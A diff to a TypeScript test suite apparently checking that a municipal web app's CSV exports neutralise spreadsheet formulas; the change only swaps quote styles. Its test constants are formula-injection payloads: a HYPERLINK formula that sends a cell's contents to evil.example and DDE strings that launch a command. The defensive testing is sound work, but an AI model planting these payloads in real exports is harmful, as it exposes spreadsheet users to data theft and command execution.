@@ -11,7 +11,7 @@ import { webSession } from './support/web-session';
  */
 const STREET = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
 const TOWN = "+cmd|' /C calc'!A0";
-const HOLDER = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+const HOLDER = "@SUM(1+1)*cmd|' /C calc'!A0";
 
 describe('CSV exports neutralise formulas', () => {
   let t: TestApp;
@@ -65,7 +65,7 @@ describe('CSV exports neutralise formulas', () => {
     assertNeutral(response.text);
   });
 
-  it.each(['/app/gemeente/export.csv', '/app/gemeente/lijst.csv'])('the municipality\'s %s', async (path) => {
+  it.each(['/app/gemeente/export.csv', '/app/gemeente/lijst.csv'])("the municipality's %s", async (path) => {
     const session = await webSession(t, 'csv-municipality@scenario.test', PASSWORD);
     const response = await t.http.get(path).set('Cookie', session.cookie).expect(200);
     expect(response.headers['content-type']).toMatch(/^text\/csv/);
